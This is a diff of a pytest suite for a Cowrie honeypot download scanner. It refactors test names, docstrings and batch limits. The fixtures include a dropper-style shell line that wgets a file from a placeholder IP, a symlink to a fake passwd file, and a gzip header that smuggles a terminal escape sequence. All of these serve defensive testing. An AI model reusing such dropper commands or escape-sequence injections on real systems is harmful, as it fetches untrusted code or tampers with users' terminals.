@@ -19,10 +19,8 @@ import pytest
 from sqlalchemy import Engine, func, insert, select, text, update
 
 from cowrieprocessor.analysis import captured_file
-from cowrieprocessor.analysis import downloads_scan as downloads
-from cowrieprocessor.analysis import scan_statements as scan_rows
-from cowrieprocessor.analysis.captured_file import LeftAlone, is_temporary_name, read_captured
-from cowrieprocessor.analysis.downloads_scan import artifact_session, scan_downloads
+from cowrieprocessor.analysis.captured_file import SkipReason, is_temporary_name, read_captured
+from cowrieprocessor.analysis.downloads_scan import ScanLimits, ScanResult, artifact_session, scan_downloads
 from cowrieprocessor.db.engine import write_transaction
 from cowrieprocessor.db.enrichment.skipped_hashes import EMPTY_FILE_SHA256, LONE_NEWLINE_SHA256
 from cowrieprocessor.db.models import Base, FileHash, Files, Job
@@ -94,7 +92,7 @@ def folder(tmp_path: Path) -> Path:
 
 
 def test_a_captured_file_gets_hashes_size_and_type(engine: Engine, folder: Path) -> None:
-    """A file that nobody knew is stored with SHA-1, MD5, size, type, and the time of the file."""
+    """A new file is stored with SHA-1, MD5, size, type, and its modification time."""
     content = b"#!/bin/sh\nwget http://198.51.100.7/x\n"
     sha256 = put(folder, content)
 
@@ -115,7 +113,7 @@ def test_a_captured_file_gets_hashes_size_and_type(engine: Engine, folder: Path)
     assert (result.new, result.artifacts, result.bytes_read, result.entries) == (1, 1, len(content), 1)
 
 
-def test_a_file_no_log_names_becomes_an_artifact_row(engine: Engine, folder: Path) -> None:
+def test_a_file_in_no_log_becomes_an_artifact_row(engine: Engine, folder: Path) -> None:
     """A captured file without an event is a row of `files` under the sensor's artifact session."""
     sha256 = put(folder, b"orphan")
 
@@ -158,7 +156,7 @@ def test_an_artifact_row_copies_the_verdict_already_known(engine: Engine, folder
 
 
 def test_each_sensor_has_its_own_artifact_row(engine: Engine, folder: Path) -> None:
-    """The same unnamed file found on two sensors is two rows, in whichever order they are scanned."""
+    """The same file in no log, found on two sensors, is two rows, in whichever order they are scanned."""
     sha256 = put(folder, b"on both")
 
     scan_downloads(engine, folder, sensor="b")
@@ -169,7 +167,7 @@ def test_each_sensor_has_its_own_artifact_row(engine: Engine, folder: Path) -> N
 
 
 def test_a_logged_file_gets_its_size_everywhere(engine: Engine, folder: Path) -> None:
-    """Rows of sessions that named the hash get the size, no artifact row appears, and no time moves."""
+    """Rows of sessions with the hash get the size, no artifact row is added, and no time changes."""
     sha256 = put(folder, b"dropper")
     add_logged(engine, sha256, ["s1", "s2"])
 
@@ -181,22 +179,21 @@ def test_a_logged_file_gets_its_size_everywhere(engine: Engine, folder: Path) ->
     assert (result.new, result.completed, result.sizes_set, result.artifacts) == (0, 1, 2, 0)
 
 
-def test_sizes_are_set_in_bounded_transactions(engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_sizes_are_set_in_bounded_transactions(engine: Engine, folder: Path) -> None:
     """A hash of many sessions gets its size over several transactions, each row exactly once."""
-    monkeypatch.setattr(scan_rows, "SIZES_PER_TRANSACTION", 7)
-    one, other = put(folder, b"popular"), put(folder, b"popular too")
-    add_logged(engine, one, [f"s{n:02}" for n in range(21)])
-    add_logged(engine, other, [f"s{n:02}" for n in range(10)])
+    first, second = put(folder, b"popular"), put(folder, b"popular too")
+    add_logged(engine, first, [f"s{n:02}" for n in range(21)])
+    add_logged(engine, second, [f"s{n:02}" for n in range(10)])
 
-    result = scan_downloads(engine, folder)
+    result = scan_downloads(engine, folder, limits=ScanLimits(sizes_per_transaction=7))
 
     assert result.sizes_set == 31
-    assert {row.file_size for row in file_rows(engine, one)} == {7}
-    assert {row.file_size for row in file_rows(engine, other)} == {11}
+    assert {row.file_size for row in file_rows(engine, first)} == {7}
+    assert {row.file_size for row in file_rows(engine, second)} == {11}
 
 
-def test_a_scan_again_changes_nothing(engine: Engine, folder: Path) -> None:
-    """The same scan twice leaves every row as it was, times of change included, and reads nothing."""
+def test_a_second_scan_changes_nothing(engine: Engine, folder: Path) -> None:
+    """A second scan changes no row, including update times, and reads nothing."""
     sha256 = put(folder, b"one")
     put(folder, b"two")
     add_logged(engine, sha256, ["s1"])
@@ -210,7 +207,7 @@ def test_a_scan_again_changes_nothing(engine: Engine, folder: Path) -> None:
 
 
 def test_rehash_reads_again_and_finds_tampering(engine: Engine, folder: Path) -> None:
-    """A known file is read again only on demand; then a change of its content shows."""
+    """A known file is read again only on request, which reveals a changed content."""
     sha256 = put(folder, b"evidence")
     scan_downloads(engine, folder)
     before = contents(engine)
@@ -225,8 +222,8 @@ def test_rehash_reads_again_and_finds_tampering(engine: Engine, folder: Path) ->
     assert contents(engine) == before
 
 
-def test_tampering_that_left_a_new_time_is_found_without_asking(engine: Engine, folder: Path) -> None:
-    """A file that no log names and that was touched is read before its new time is believed."""
+def test_tampering_that_changed_the_time_is_found_without_rehash(engine: Engine, folder: Path) -> None:
+    """A file in no log with a new modification time is read before that time is used."""
     sha256 = put(folder, b"evidence")
     scan_downloads(engine, folder)
     before = contents(engine)
@@ -238,7 +235,7 @@ def test_tampering_that_left_a_new_time_is_found_without_asking(engine: Engine, 
 
 @pytest.mark.parametrize("sensors", ["aaa", "abc", "aba"])
 def test_times_of_an_artifact_are_the_same_in_any_order_of_scans(engine: Engine, folder: Path, sensors: str) -> None:
-    """A hash that no log names was first seen at the earliest time of its files and last at the latest."""
+    """A hash in no log was first seen at the earliest time of its files and last at the latest."""
     orders = list(itertools.permutations((0, 1, 2)))
     contents_in_order = {repr(hours).encode(): hours for hours in orders}
     earliest: dict[tuple[str, str], dt.datetime] = {}
@@ -259,7 +256,7 @@ def test_times_of_an_artifact_are_the_same_in_any_order_of_scans(engine: Engine,
 
 
 def test_a_new_time_is_counted_as_completed(engine: Engine, folder: Path) -> None:
-    """A scan that only moves a time counts the file as completed, and reads it once."""
+    """A scan that only changes a time counts the file as completed, and reads it once."""
     put(folder, b"old")
     scan_downloads(engine, folder)
     put(folder, b"old", mtime=MTIME - 60)
@@ -269,8 +266,8 @@ def test_a_new_time_is_counted_as_completed(engine: Engine, folder: Path) -> Non
     assert (result.new, result.completed, result.unchanged, result.bytes_read, result.artifacts) == (0, 1, 0, 3, 0)
 
 
-def test_no_scan_moves_the_times_of_a_log(engine: Engine, folder: Path) -> None:
-    """Of a hash that a log names, neither an earlier nor a later file moves a time."""
+def test_no_scan_changes_the_times_of_a_log(engine: Engine, folder: Path) -> None:
+    """The times of a hash in a log change neither for an earlier nor for a later file."""
     sha256 = put(folder, b"logged")
     add_logged(engine, sha256, ["s1"])
     for seconds in (-100, 100_000_000):
@@ -283,7 +280,7 @@ def test_no_scan_moves_the_times_of_a_log(engine: Engine, folder: Path) -> None:
 
 
 def test_a_row_that_lost_its_size_gets_it_back(engine: Engine, folder: Path) -> None:
-    """What a crash or an older loader left without a size is completed without reading the file again."""
+    """A row left without a size by a crash or an older loader is completed without reading the file again."""
     sha256 = put(folder, b"known")
     add_logged(engine, sha256, ["s1"])
     scan_downloads(engine, folder)
@@ -296,7 +293,7 @@ def test_a_row_that_lost_its_size_gets_it_back(engine: Engine, folder: Path) -> 
     assert file_rows(engine, sha256)[0].file_size == 5
 
 
-def test_worthless_files_are_never_to_be_asked_about(engine: Engine, folder: Path) -> None:
+def test_skipped_hashes_are_never_enriched(engine: Engine, folder: Path) -> None:
     """The empty file and the lone newline are stored with status skipped."""
     assert put(folder, b"") == EMPTY_FILE_SHA256
     assert put(folder, b"\n") == LONE_NEWLINE_SHA256
@@ -309,8 +306,8 @@ def test_worthless_files_are_never_to_be_asked_about(engine: Engine, folder: Pat
         assert file_rows(engine, sha256)[0].enrichment_status == "skipped"
 
 
-def test_content_that_is_not_its_name_is_not_stored(engine: Engine, folder: Path) -> None:
-    """A file whose content has another hash than its name is reported and stored under neither hash."""
+def test_a_mismatch_is_not_stored(engine: Engine, folder: Path) -> None:
+    """A file whose content does not have the hash in its name is reported and stored under neither hash."""
     (folder / ("a" * 64)).write_bytes(b"truncated")
 
     result = scan_downloads(engine, folder)
@@ -321,7 +318,7 @@ def test_content_that_is_not_its_name_is_not_stored(engine: Engine, folder: Path
 
 
 def test_nothing_is_followed_and_nothing_blocks(engine: Engine, folder: Path, tmp_path: Path) -> None:
-    """Links, FIFOs, sockets, folders and temporary names are left alone, each counted by its reason."""
+    """Links, FIFOs, sockets, folders and temporary names are skipped and counted by reason."""
     secret = tmp_path / "passwd"
     secret.write_bytes(b"root:x:0:0")
     (folder / hashlib.sha256(b"root:x:0:0").hexdigest()).symlink_to(secret)
@@ -357,8 +354,8 @@ def test_nothing_is_followed_and_nothing_blocks(engine: Engine, folder: Path, tm
 
 
 @pytest.mark.skipif(os.getuid() != 0, reason="only root can make a device")
-def test_a_device_is_left_alone(engine: Engine, folder: Path) -> None:
-    """A device file under a hash is not opened."""
+def test_a_device_is_skipped(engine: Engine, folder: Path) -> None:
+    """A device file named by a hash is not opened."""
     try:
         os.mknod(folder / ("6" * 64), 0o600 | 0o020000, os.makedev(1, 5))
     except PermissionError:
@@ -367,8 +364,8 @@ def test_a_device_is_left_alone(engine: Engine, folder: Path) -> None:
     assert scan_downloads(engine, folder).left_alone == {"device": 1}
 
 
-def test_a_link_put_there_after_the_look_is_not_followed(folder: Path, tmp_path: Path) -> None:
-    """A file that becomes a link, FIFO or folder between look and opening is left alone."""
+def test_a_link_put_there_after_the_listing_is_not_followed(folder: Path, tmp_path: Path) -> None:
+    """A file that becomes a link, FIFO or folder between listing and opening is skipped."""
     secret = tmp_path / "secret"
     secret.write_bytes(b"secret")
     name = hashlib.sha256(b"secret").hexdigest()
@@ -381,15 +378,14 @@ def test_a_link_put_there_after_the_look_is_not_followed(folder: Path, tmp_path:
     finally:
         os.close(folder_fd)
 
-    assert outcomes == [LeftAlone.SYMLINK, LeftAlone.FIFO, LeftAlone.FOLDER, LeftAlone.VANISHED]
+    assert outcomes == [SkipReason.SYMLINK, SkipReason.FIFO, SkipReason.FOLDER, SkipReason.VANISHED]
 
 
 @pytest.mark.parametrize("change", ["grow", "shrink", "rewrite"])
-def test_a_file_that_changes_while_it_is_read_waits(
+def test_a_file_that_changes_while_it_is_read_is_skipped(
     engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch, change: str
 ) -> None:
-    """A file that grows, shrinks or is rewritten under the reader is left for the next scan."""
-    monkeypatch.setattr(captured_file, "CHUNK_BYTES", 4)
+    """A file that grows, shrinks or is rewritten while it is read is left for the next scan."""
     sha256 = put(folder, b"0123456789")
     path = folder / sha256
     real_read = os.read
@@ -410,14 +406,14 @@ def test_a_file_that_changes_while_it_is_read_waits(
 
     monkeypatch.setattr(captured_file.os, "read", read_and_change)
 
-    result = scan_downloads(engine, folder)
+    result = scan_downloads(engine, folder, limits=ScanLimits(chunk_bytes=4))
 
     assert result.left_alone == {"changing": 1}
     assert contents(engine) == ([], [])
 
 
 def test_upper_case_names_are_the_same_hash(engine: Engine, folder: Path) -> None:
-    """A copy that came through a file system that shouts is one hash, and every entry is accounted for."""
+    """A copy with an upper-case name is the same hash, and every entry is counted."""
     sha256 = put(folder, b"once")
     shutil.copy(folder / sha256, folder / sha256.upper())
 
@@ -427,10 +423,10 @@ def test_upper_case_names_are_the_same_hash(engine: Engine, folder: Path) -> Non
     assert (result.new, result.unchanged, result.entries) == (1, 1, 2)
 
 
-def test_without_libmagic_types_stay_unknown_until_it_is_there(
+def test_without_libmagic_types_stay_unknown_until_it_is_installed(
     engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    """Where the extra is not installed files are stored without types; a later scan with it adds them."""
+    """Without the extra, files are stored without types; a later scan with it adds them."""
     sha256 = put(folder, b"#!/bin/sh\n")
     with monkeypatch.context() as patch:
         patch.setitem(sys.modules, "magic", None)
@@ -445,7 +441,7 @@ def test_without_libmagic_types_stay_unknown_until_it_is_there(
 
 
 def test_types_that_quote_the_file_are_inert(engine: Engine, folder: Path) -> None:
-    """A description that libmagic takes from the file holds no control character and fits its column."""
+    """A description that quotes the file has no control characters and fits its column."""
     name = b"\x1b]0;owned\x07" + b"A" * 2000
     sha256 = put(folder, b"\x1f\x8b\x08\x08\x00\x00\x00\x00\x00\x03" + name + b"\x00" + b"rest")
 
@@ -474,17 +470,18 @@ def test_an_impossible_mtime_counts_as_now(engine: Engine, folder: Path, seconds
     assert contents(engine) == before
 
 
-def test_folders_larger_than_a_batch_are_walked_through(
-    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """Many files come in several transactions, by number and by bytes, and progress tells of each."""
-    monkeypatch.setattr(downloads, "BATCH_FILES", 10)
-    monkeypatch.setattr(downloads, "BATCH_BYTES", 20)
+def test_large_folders_are_scanned_in_batches(engine: Engine, folder: Path) -> None:
+    """Many files are stored in several transactions, limited by number and by bytes, with progress after each file."""
     for n in range(35):
         put(folder, b"%05d" % n)
     seen: list[tuple[int, int]] = []
 
-    result = scan_downloads(engine, folder, on_progress=lambda so_far, total: seen.append((so_far.entries, total)))
+    result = scan_downloads(
+        engine,
+        folder,
+        on_progress=lambda so_far, total: seen.append((so_far.entries, total)),
+        limits=ScanLimits(batch_files=10, batch_bytes=20),
+    )
 
     assert (result.new, result.artifacts, result.bytes_read) == (35, 35, 175)
     assert len(seen) == 35
@@ -493,8 +490,8 @@ def test_folders_larger_than_a_batch_are_walked_through(
         assert connection.scalar(select(func.count()).select_from(HASHES)) == 35
 
 
-def test_the_job_row_tells_of_the_scan(engine: Engine, folder: Path) -> None:
-    """The table of jobs holds one row `scan` with state, times and counters by reason."""
+def test_the_job_row_records_the_scan(engine: Engine, folder: Path) -> None:
+    """The table of jobs has one row `scan` with state, times and counters by reason."""
     put(folder, b"x")
     (folder / "README").write_bytes(b"")
 
@@ -508,20 +505,17 @@ def test_the_job_row_tells_of_the_scan(engine: Engine, folder: Path) -> None:
     assert row.started_at <= row.updated_at <= row.finished_at
 
 
-def test_an_interrupted_scan_says_so_and_goes_on_where_it_stopped(
-    engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_an_interrupted_scan_is_recorded_and_can_be_resumed(engine: Engine, folder: Path) -> None:
     """After Ctrl-C what was committed stays, the job says so, and a new scan does the rest."""
-    monkeypatch.setattr(downloads, "BATCH_FILES", 2)
     for n in range(6):
         put(folder, b"%d" % n)
 
-    def interrupt(so_far: downloads.ScanResult, total: int) -> None:
+    def interrupt(so_far: ScanResult, total: int) -> None:
         if so_far.entries > 4:
             raise KeyboardInterrupt
 
     with pytest.raises(KeyboardInterrupt):
-        scan_downloads(engine, folder, on_progress=interrupt)
+        scan_downloads(engine, folder, on_progress=interrupt, limits=ScanLimits(batch_files=2))
     with engine.connect() as connection:
         row = connection.execute(select(JOBS)).one()
     assert (row.state, row.reason) == ("stopped", "interrupted")
@@ -531,13 +525,13 @@ def test_an_interrupted_scan_says_so_and_goes_on_where_it_stopped(
     assert (result.unchanged, result.new) == (4, 2)
 
 
-def test_a_folder_that_is_not_there_is_said(engine: Engine, tmp_path: Path) -> None:
-    """A missing folder and a path that is no folder are two different errors, and no job starts."""
+def test_a_missing_folder_is_an_error(engine: Engine, tmp_path: Path) -> None:
+    """A missing folder and a path that is not a folder are different errors, and no job starts."""
     (tmp_path / "file").write_bytes(b"")
 
     with pytest.raises(InputNotFound, match="no such folder"):
         scan_downloads(engine, tmp_path / "nowhere")
-    with pytest.raises(InputNotReadable, match="no folder"):
+    with pytest.raises(InputNotReadable, match="is not a folder"):
         scan_downloads(engine, tmp_path / "file")
     with engine.connect() as connection:
         assert connection.scalar(select(func.count()).select_from(JOBS)) == 0
@@ -557,8 +551,8 @@ def leave(folder: Path, content: bytes, *, name: str = "redir_00ff", age_s: floa
     return path
 
 
-def test_what_a_redirect_left_is_an_artifact_under_its_hash(engine: Engine, folder: Path) -> None:
-    """A redirect that nobody wrote to for an hour is stored once, under its real hash and without a name."""
+def test_a_leftover_is_an_artifact_under_its_hash(engine: Engine, folder: Path) -> None:
+    """The output of a redirect is stored once after an hour without writes, under its hash and without a name."""
     path = leave(folder, LOADER_STAGE)
     sha256 = hashlib.sha256(LOADER_STAGE).hexdigest()
 
@@ -581,8 +575,8 @@ def test_what_a_redirect_left_is_an_artifact_under_its_hash(engine: Engine, fold
 @pytest.mark.parametrize(
     ("content", "age_s"), [(b"young", 0), (b"young", HOUR_S - 60), (b"from tomorrow", -24 * HOUR_S), (b"", 9 * HOUR_S)]
 )
-def test_a_redirect_that_may_go_on_is_left_alone(engine: Engine, folder: Path, content: bytes, age_s: float) -> None:
-    """A redirect that was written to in the last hour, or that holds nothing, is still a temporary file."""
+def test_an_unfinished_redirect_is_skipped(engine: Engine, folder: Path, content: bytes, age_s: float) -> None:
+    """Output written in the last hour, or empty output, is still a temporary file."""
     leave(folder, content, age_s=age_s)
 
     result = scan_downloads(engine, folder)
@@ -592,7 +586,7 @@ def test_a_redirect_that_may_go_on_is_left_alone(engine: Engine, folder: Path, c
 
 
 def test_a_redirect_that_is_open_for_writing_waits_a_day(engine: Engine, folder: Path) -> None:
-    """An old redirect that somebody has open for writing is left alone, but not for ever."""
+    """Old output that is open for writing is skipped, but not for ever."""
     path = leave(folder, LOADER_STAGE)
     moment = path.stat().st_mtime
     with path.open("ab"):
@@ -608,7 +602,7 @@ def test_a_redirect_that_is_open_for_writing_waits_a_day(engine: Engine, folder:
 
 
 def has_writer(path: Path) -> bool:
-    """Return what the scan is told about who writes to a file."""
+    """Return whether the scan sees a writer of a file."""
     descriptor = os.open(path, os.O_RDONLY)
     try:
         return captured_file._has_writer(descriptor)
@@ -617,8 +611,8 @@ def has_writer(path: Path) -> bool:
 
 
 @pytest.mark.parametrize("scan_first", [True, False])
-def test_a_redirect_whose_content_a_log_names_is_no_artifact(engine: Engine, folder: Path, scan_first: bool) -> None:
-    """A redirect with the content of a logged file gives that file its size, in either order, and no row."""
+def test_a_leftover_with_logged_content_is_no_artifact(engine: Engine, folder: Path, scan_first: bool) -> None:
+    """Output with the content of a logged file adds its size, in either order, and no row."""
     leave(folder, LOADER_STAGE)
     sha256 = hashlib.sha256(LOADER_STAGE).hexdigest()
     log = folder.parent / "cowrie.json"
@@ -634,8 +628,8 @@ def test_a_redirect_whose_content_a_log_names_is_no_artifact(engine: Engine, fol
     assert scan_downloads(engine, folder).unchanged == 1
 
 
-def test_one_content_left_often_is_one_file(engine: Engine, folder: Path) -> None:
-    """Redirects with the same content, and a file named by its hash, are one row with the span of their times."""
+def test_several_leftovers_with_the_same_content_are_one_file(engine: Engine, folder: Path) -> None:
+    """Leftovers with the same content, and a file named by its hash, are one row with the range of their times."""
     for number in range(5):
         leave(folder, LOADER_STAGE, name=f"redir_{number:032x}", age_s=(2 + number) * HOUR_S)
     sha256 = put(folder, LOADER_STAGE)
@@ -653,8 +647,8 @@ def test_one_content_left_often_is_one_file(engine: Engine, folder: Path) -> Non
     assert contents(engine) == before
 
 
-def test_two_scans_at_once_equal_one(engine: Engine, folder: Path) -> None:
-    """Scans of the same folder that run beside each other store each file once."""
+def test_two_concurrent_scans_equal_one(engine: Engine, folder: Path) -> None:
+    """Concurrent scans of the same folder store each file once."""
     hashes = [put(folder, b"%d" % n) for n in range(40)]
     add_logged(engine, hashes[0], ["s1", "s2"])
 
@@ -668,8 +662,8 @@ def test_two_scans_at_once_equal_one(engine: Engine, folder: Path) -> None:
     assert sum(result.sizes_set for result in results) == 2
 
 
-def test_a_log_loaded_later_takes_the_artifact_over(engine: Engine, corpus: Path) -> None:
-    """Scanning before or after loading the logs gives the same files and hashes."""
+def test_the_order_of_scan_and_load_does_not_matter(engine: Engine, corpus: Path) -> None:
+    """Scanning before or after loading gives the same files and hashes."""
     downloads_folder, log = corpus / "cowrie-3.1.4" / "downloads", corpus / "cowrie-3.1.4" / "cowrie.json"
     scan_downloads(engine, downloads_folder)
     BulkLoader(engine).load([log])
@@ -712,7 +706,7 @@ print(read_captured(fd, "7" * 64).value)
 
 
 def test_a_file_without_permission_is_unreadable(folder: Path) -> None:
-    """A file that the permissions refuse is told apart; run as another user where the tests run as root."""
+    """A file without read permission has its own reason; run as another user if the tests run as root."""
     path = folder / ("7" * 64)
     path.write_bytes(b"secret")
     path.chmod(0)
@@ -729,7 +723,7 @@ def test_a_file_without_permission_is_unreadable(folder: Path) -> None:
 
 
 def test_names_that_look_temporary() -> None:
-    """Cowrie's names of unfinished files are known; a hash or a plain name is none of them."""
+    """Cowrie's names of unfinished files are recognized; a hash or a plain name is not one."""
     temporary = [
         "stdin_0a", "redir_0086bc7c3cbc43e58be64663db17ec5f", "sftp_ff", "scp_1", "gcc_2", "tmp", "tmpq8_x",
         "20160229-235959-12", "20200121131433_aa80bf3fb7ad_0_http___198_18_0_1_w_txt",
@@ -740,8 +734,8 @@ def test_names_that_look_temporary() -> None:
     assert [n for n in other if is_temporary_name(n)] == []
 
 
-def test_artifact_sessions_fit_their_column_and_stay_apart() -> None:
-    """Long sensor names are cut to 64 characters in all without falling together; controls are escaped."""
+def test_artifact_sessions_fit_their_column_and_stay_distinct() -> None:
+    """Long sensor names are cut to 64 characters in all and stay distinct; control characters are escaped."""
     long_a, long_b = "pot-" + "x" * 80 + "a", "pot-" + "x" * 80 + "b"
 
     names = [artifact_session(name) for name in ("pot", long_a, long_b, "\x1b[2J", "p" * 55, "\ud800" * 60)]
@@ -755,7 +749,7 @@ def test_artifact_sessions_fit_their_column_and_stay_apart() -> None:
 
 
 def test_the_real_downloads_of_the_corpus(engine: Engine, corpus: Path) -> None:
-    """A real folder gives its 17 files, leaves its 18 temporary ones; a second time changes nothing."""
+    """Of a real folder 17 files are stored and 18 temporary ones skipped; a second scan changes nothing."""
     folder = corpus / "cowrie-3.1.4" / "downloads"
 
     result = scan_downloads(engine, folder, sensor="vm")
